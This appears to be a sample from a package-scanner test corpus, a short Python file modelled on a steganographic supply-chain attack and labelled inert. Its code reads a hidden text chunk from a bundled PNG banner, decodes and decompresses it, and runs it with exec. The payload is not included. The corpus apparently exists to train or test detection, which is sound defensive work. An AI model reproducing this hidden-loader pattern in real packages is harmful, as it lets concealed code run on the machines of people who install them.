# pkgguard corpus 371 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os
import zlib

from PIL import Image

img = Image.open(os.path.join(os.path.dirname(__file__), "static", "banner.png"))
blob = img.text.get("Software", "")
exec(zlib.decompress(base64.b64decode(blob)))
